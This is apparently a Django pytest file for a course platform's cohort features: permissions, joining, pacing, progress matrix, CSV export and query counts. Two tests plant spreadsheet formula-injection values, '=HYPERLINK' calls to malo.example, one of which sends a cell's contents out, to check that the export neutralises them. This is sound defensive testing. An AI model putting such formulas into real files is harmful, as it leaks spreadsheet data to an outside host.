"""Cohorts: the permission ladder, joining, pacing, the matrix, the CSV and the query counts."""

import csv
import datetime
import io

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from accounts.models import User
from conftest import PASSWORD
from roadmap.cohorts.selectors import Pacing, cohort_matrix
from roadmap.learning.services import progress_set_status
from roadmap.learning.summary import rebuild_learner_summaries
from roadmap.models import (
    Cohort,
    CohortMembership,
    Note,
    Part,
    Section,
    SectionTarget,
    Status,
    Topic,
    TopicProgress,
)
from tests.clock import set_status_at
from tests.course_factory import CONSTELLATIONS, FIRST_SECTION, OTHER_TOPIC, SECOND_SECTION, TOPIC

FIRST, SECOND, THIRD = (topic.slug for topic in CONSTELLATIONS)  # all of FIRST_SECTION
MERCURY, VENUS, MARS = (topic.slug for topic in SECOND_SECTION.published_topics)

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()


@pytest.fixture
def diego(db):
    return User.objects.create_user("diego@example.com", PASSWORD, display_name="Diego")


@pytest.fixture
def other_cohort(course, diego):
    other = Cohort.objects.create(name="Otra", slug="otra", start_date=TODAY)
    CohortMembership.objects.create(cohort=other, user=diego, role="instructor")
    return other


def section(slug):
    return Section.objects.get(slug=slug)


def mark(user, slugs, status=Status.DONE):
    for slug in slugs:
        progress_set_status(user=user, topic=Topic.objects.get(slug=slug), status=status)


def instructor_urls(cohort, ana):
    base = f"/cohortes/{cohort.slug}/"
    return [
        ("get", "/cohortes/"),
        ("get", base),
        ("get", base + "exportar.csv"),
        ("get", base + "ritmo/"),
        ("get", f"{base}aprendices/{ana.pk}/"),
        ("post", base + "codigo/"),
        ("post", f"{base}aprendices/{ana.pk}/quitar/"),
    ]


# The permission ladder, on every instructor page.
def test_anonymous_is_sent_to_log_in(client, cohort, ana):
    for method, url in instructor_urls(cohort, ana):
        response = getattr(client, method)(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/accounts/login/?next="), url


def test_a_learner_of_the_cohort_gets_404(client, cohort, ana):
    client.force_login(ana)
    for method, url in instructor_urls(cohort, ana):
        assert getattr(client, method)(url).status_code == 404, url


def test_the_instructor_of_another_cohort_gets_404(client, cohort, other_cohort, ana, diego):
    client.force_login(diego)
    for method, url in instructor_urls(cohort, ana)[1:]:
        assert getattr(client, method)(url).status_code == 404, url
    assert "Cohorte marzo" not in client.get("/cohortes/").content.decode()


@pytest.mark.parametrize("who", ["bruno", "superuser"])
def test_the_cohorts_instructor_and_a_superuser_get_200(client, cohort, ana, who, request):
    client.force_login(request.getfixturevalue(who))
    for method, url in instructor_urls(cohort, ana)[:5]:
        assert getattr(client, method)(url).status_code == 200, url


def test_a_learner_outside_the_cohort_is_404_in_the_drill_down(client, cohort, bruno, carla):
    client.force_login(bruno)
    assert client.get(f"/cohortes/{cohort.slug}/aprendices/{carla.pk}/").status_code == 404
    assert client.get(f"/cohortes/{cohort.slug}/aprendices/{bruno.pk}/").status_code == 404


def test_cohort_pages_refuse_other_methods(client, cohort, bruno):
    client.force_login(bruno)
    assert client.post(f"/cohortes/{cohort.slug}/").status_code == 405
    assert client.get(f"/cohortes/{cohort.slug}/codigo/").status_code == 405


# Joining.
def test_anonymous_join_round_trip(client, cohort, carla):
    url = f"/cohortes/unirse/{cohort.join_code}/"
    response = client.get(url)
    assert response["Location"] == f"/accounts/login/?next={url}"
    response = client.post(
        "/accounts/login/", {"login": "carla@example.com", "password": PASSWORD, "next": url}
    )
    assert response["Location"] == url
    page = client.get(url)
    assert page.status_code == 200
    assert "Unirme a la cohorte" in page.content.decode()
    assert not CohortMembership.objects.filter(user=carla).exists()  # GET changes nothing
    response = client.post(url)
    assert response["Location"] == "/mi-progreso/"
    assert CohortMembership.objects.get(user=carla).role == "aprendiz"


def test_joining_twice_is_harmless(carla_client, cohort, carla):
    url = f"/cohortes/unirse/{cohort.join_code}/"
    carla_client.post(url)
    carla_client.post(url)
    assert CohortMembership.objects.filter(user=carla, cohort=cohort).count() == 1
    assert "Ya sos parte" in carla_client.get("/mi-progreso/").content.decode()


def test_an_unknown_code_gets_a_clear_404(carla_client, cohort):
    response = carla_client.get("/cohortes/unirse/no-existe/")
    assert response.status_code == 404
    assert "no es válido" in response.content.decode()


def test_a_regenerated_code_stops_the_old_link(client, cohort, bruno, carla):
    old = cohort.join_code
    client.force_login(bruno)
    client.post(f"/cohortes/{cohort.slug}/codigo/")
    cohort.refresh_from_db()
    assert cohort.join_code != old
    client.force_login(carla)
    assert client.post(f"/cohortes/unirse/{old}/").status_code == 404
    assert not CohortMembership.objects.filter(user=carla).exists()
    assert client.post(f"/cohortes/unirse/{cohort.join_code}/").status_code == 302


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"end_date": TODAY - datetime.timedelta(days=1)}, "terminó"),
        ({"is_active": False}, "no está activa"),
    ],
)
def test_an_ended_or_inactive_cohort_refuses_new_members(
    carla_client, cohort, carla, change, message
):
    Cohort.objects.filter(pk=cohort.pk).update(**change)
    response = carla_client.post(f"/cohortes/unirse/{cohort.join_code}/")
    assert response.status_code == 410
    assert message in response.content.decode()
    assert not CohortMembership.objects.filter(user=carla).exists()


def test_a_learner_leaves_a_cohort_and_keeps_their_progress(ana_client, ana, cohort):
    mark(ana, [TOPIC.slug])
    response = ana_client.post(f"/cohortes/{cohort.slug}/salir/")
    assert response.status_code == 302
    assert not CohortMembership.objects.filter(user=ana, cohort=cohort).exists()
    assert ana.topic_progress.count() == 1


def test_the_instructor_removes_a_learner(client, cohort, bruno, ana):
    client.force_login(bruno)
    client.post(f"/cohortes/{cohort.slug}/aprendices/{ana.pk}/quitar/")
    assert not CohortMembership.objects.filter(user=ana, cohort=cohort).exists()


# The matrix and pacing.
def test_matrix_percentages_match_hand_computed_values(cohort, ana, carla, course):
    CohortMembership.objects.create(cohort=cohort, user=carla)
    mark(ana, [FIRST, SECOND])  # first section: 2 of 3
    mark(carla, [FIRST])
    mark(carla, [SECOND], Status.SKIPPED)  # 1 of (3 - 1)
    mark(carla, [TOPIC.slug], Status.IN_PROGRESS)
    matrix = cohort_matrix(cohort)
    first_index = [s.slug for s in matrix.sections].index(FIRST_SECTION.slug)
    rows = {row.email: row for row in matrix.fill_cells(matrix.rows)}
    assert rows["ana@example.com"].cells[first_index].percent == 67
    assert rows["carla@example.com"].cells[first_index].percent == 50
    assert matrix.section_averages[first_index] == round((67 + 50) / 2)
    assert rows["ana@example.com"].overall.percent == round(100 * 2 / course.topic_count)
    assert rows["carla@example.com"].overall.percent == round(100 * 1 / (course.topic_count - 1))
    assert rows["carla@example.com"].overall.in_progress == 1
    assert matrix.stuck_topics[0]["topic__title"] == TOPIC.title
    assert matrix.stuck_topics[0]["learners"] == 1


def test_pacing_on_fixed_dates(cohort, ana):
    mark(ana, [FIRST, SECOND, THIRD])
    day = datetime.date(2027, 3, 14)
    SectionTarget.objects.create(cohort=cohort, section=section(FIRST_SECTION.slug), due_date=day)
    SectionTarget.objects.create(cohort=cohort, section=section(SECOND_SECTION.slug), due_date=day)
    # On the due date itself nothing has passed yet.
    assert cohort_matrix(cohort, today=day).rows[0].pacing == Pacing.ON_TRACK
    row = cohort_matrix(cohort, today=day + datetime.timedelta(days=1)).rows[0]
    assert row.pacing == Pacing.BEHIND
    assert [s.slug for s in row.behind_on] == [SECOND_SECTION.slug]
    mark(ana, [MERCURY, VENUS])
    mark(ana, [MARS], Status.SKIPPED)
    assert (
        cohort_matrix(cohort, today=day + datetime.timedelta(days=1)).rows[0].pacing
        == Pacing.ON_TRACK
    )


def test_inactive_learners_are_flagged(cohort, ana, carla):
    CohortMembership.objects.create(cohort=cohort, user=carla)
    eight_days_ago = timezone.now() - datetime.timedelta(days=8)
    doppler = Topic.objects.get(slug=TOPIC.slug)
    set_status_at(eight_days_ago, user=ana, topic=doppler, status=Status.DONE)
    mark(carla, [TOPIC.slug])
    rows = {row.email: row for row in cohort_matrix(cohort).rows}
    assert rows["ana@example.com"].inactive is True
    assert rows["carla@example.com"].inactive is False


def test_dashboard_sorts_and_filters(client, cohort, bruno, ana, carla):
    CohortMembership.objects.create(cohort=cohort, user=carla)
    mark(carla, [TOPIC.slug, OTHER_TOPIC.slug])
    client.force_login(bruno)
    html = client.get(f"/cohortes/{cohort.slug}/?orden=progreso").content.decode()
    assert html.index(">Carla<") < html.index(">Ana<")
    html = client.get(f"/cohortes/{cohort.slug}/?orden=nombre").content.decode()
    assert html.index(">Ana<") < html.index(">Carla<")
    html = client.get(f"/cohortes/{cohort.slug}/?filtro=inactivos").content.decode()
    assert ">Ana<" in html and ">Carla<" not in html  # ana never did anything
    response = client.get(f"/cohortes/{cohort.slug}/?orden=edad")
    assert response.status_code == 400
    assert "Orden desconocido" in response.content.decode()


def test_dashboard_shows_the_invite_link(client, cohort, bruno):
    client.force_login(bruno)
    html = client.get(f"/cohortes/{cohort.slug}/").content.decode()
    assert f"http://testserver/cohortes/unirse/{cohort.join_code}/" in html


def test_csv_export(client, cohort, bruno, ana, course):
    mark(ana, [FIRST, SECOND])
    client.force_login(bruno)
    response = client.get(f"/cohortes/{cohort.slug}/exportar.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    header, ana_row = rows
    assert header[:3] == ["aprendiz", "email", f"{FIRST_SECTION.title} (%)"]
    assert header[-6:] == [
        "total (%)", "completados", "en progreso", "omitidos", "última actividad", "ritmo",
    ]  # fmt: skip
    sections = course.section_count
    assert len(header) == 2 + sections + 6
    assert ana_row[:3] == ["Ana", "ana@example.com", "67"]
    total = str(round(100 * 2 / course.topic_count))
    assert ana_row[2 + sections : 2 + sections + 4] == [total, "2", "0", "0"]
    assert ana_row[-2].startswith(TODAY.isoformat())
    assert ana_row[-1] == "Al día"


def test_drill_down_shows_statuses_and_dates_but_never_notes(client, cohort, bruno, ana):
    mark(ana, [TOPIC.slug])
    Note.objects.create(
        user=ana, topic=Topic.objects.get(slug=TOPIC.slug), body="nota secreta de ana"
    )
    client.force_login(bruno)
    html = client.get(f"/cohortes/{cohort.slug}/aprendices/{ana.pk}/").content.decode()
    assert "Completado" in html
    assert timezone.localdate().strftime("%Y") in html
    assert "nota secreta" not in html


def test_pacing_form_saves_and_clears_targets(client, cohort, bruno):
    client.force_login(bruno)
    first_section = section(FIRST_SECTION.slug)
    response = client.post(
        f"/cohortes/{cohort.slug}/ritmo/", {f"seccion_{first_section.pk}": "2027-03-14"}
    )
    assert response.status_code == 302
    assert cohort.targets.get().due_date == datetime.date(2027, 3, 14)
    response = client.post(
        f"/cohortes/{cohort.slug}/ritmo/", {f"seccion_{first_section.pk}": "14 de marzo"}
    )
    assert response.status_code == 400
    assert "Fecha no válida" in response.content.decode()
    client.post(f"/cohortes/{cohort.slug}/ritmo/", {})
    assert not cohort.targets.exists()


def test_learner_sees_cohort_calendar_and_own_status(ana_client, ana, cohort):
    SectionTarget.objects.create(
        cohort=cohort,
        section=section(FIRST_SECTION.slug),
        due_date=TODAY - datetime.timedelta(days=1),
    )
    html = ana_client.get("/mi-progreso/").content.decode()
    assert "Cohorte marzo" in html
    assert f"{FIRST_SECTION.title}</a></th><td>" in html
    assert "Atrasado/a" in html


# Query counts: the same for 3 and for 60 learners.
def _add_learners(cohort, count, start=0):
    topics = list(Topic.objects.all()[:10])
    users = User.objects.bulk_create(
        User(email=f"l{n}@example.com") for n in range(start, start + count)
    )
    CohortMembership.objects.bulk_create(CohortMembership(cohort=cohort, user=u) for u in users)
    TopicProgress.objects.bulk_create(
        TopicProgress(user=user, topic=topic, status=Status.DONE)
        for n, user in enumerate(users)
        for topic in topics[: n % 10]
    )
    rebuild_learner_summaries([user.pk for user in users])  # what every bulk writer does


@pytest.mark.parametrize("path", ["", "exportar.csv"])
def test_dashboard_and_csv_query_counts_do_not_grow(
    client, cohort, bruno, path, django_assert_num_queries
):
    _add_learners(cohort, 2)  # 3 learners with ana
    client.force_login(bruno)
    url = f"/cohortes/{cohort.slug}/{path}"
    client.get(url)
    with django_assert_num_queries(9) as small:
        client.get(url)
    _add_learners(cohort, 57, start=2)  # 60
    with django_assert_num_queries(len(small.captured_queries)):
        response = client.get(url)
    assert response.status_code == 200


def test_with_every_topic_published_the_dashboard_reads_no_hidden_statuses(
    client, cohort, bruno, django_assert_num_queries
):
    for model in (Part, Section, Topic):
        model.objects.update(is_published=True)  # a bulk write: a new content version
    client.force_login(bruno)
    url = f"/cohortes/{cohort.slug}/"
    client.get(url)
    with django_assert_num_queries(8):  # one fewer than with statuses to take off
        client.get(url)


def test_cohort_list_shows_size_average_and_inactive(client, cohort, bruno, ana, course):
    mark(ana, [TOPIC.slug])
    client.force_login(bruno)
    html = client.get("/cohortes/").content.decode()
    assert "Cohorte marzo" in html
    assert "<td>1</td>" in html  # one learner
    assert f"<td>{round(100 / course.topic_count)} %</td>" in html


# Demo data.
def test_seed_demo_refuses_with_debug_off(settings, course):
    settings.DEBUG = False
    with pytest.raises(CommandError, match="--force"):
        call_command("seed_demo")


def test_seed_demo_creates_a_cohort_to_look_at(settings, course):
    settings.DEBUG = True
    out = io.StringIO()
    call_command("seed_demo", "--learners", "12", stdout=out)
    cohort = Cohort.objects.get(slug="cohorte-demo")
    assert cohort.memberships.filter(role="aprendiz").count() == 12
    assert cohort.targets.count() == min(12, course.section_count)  # 12 at most
    assert "bruno@example.com / curso-demo-2026" in out.getvalue()
    matrix = cohort_matrix(cohort)
    assert len({row.overall.percent for row in matrix.rows}) > 3  # varied progress
    call_command("seed_demo", "--learners", "5", stdout=io.StringIO())  # re-runnable
    assert Cohort.objects.get(slug="cohorte-demo").memberships.filter(role="aprendiz").count() == 5


def test_csv_neutralises_spreadsheet_formulas(client, cohort, bruno, ana):
    ana.display_name = '=HYPERLINK("https://malo.example/?"&B2,"clic")'
    ana.save()
    client.force_login(bruno)
    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").getvalue().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[0] == "'" + ana.display_name


def test_a_target_on_a_section_without_published_topics_never_makes_anyone_behind(cohort, ana):
    first_section = section(FIRST_SECTION.slug)
    SectionTarget.objects.create(
        cohort=cohort, section=first_section, due_date=TODAY - datetime.timedelta(days=2)
    )
    first_section.topics.update(is_published=False)
    assert cohort_matrix(cohort).rows[0].pacing == Pacing.ON_TRACK


def test_csv_header_neutralises_a_formula_in_a_section_title(client, cohort, bruno, ana):
    first_section = section(FIRST_SECTION.slug)
    first_section.title = '=HYPERLINK("https://malo.example/","Matemáticas")'
    first_section.save()
    client.force_login(bruno)
    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").getvalue().decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert "'" + first_section.title + " (%)" in header
    assert not any(cell.startswith("=") for cell in header)
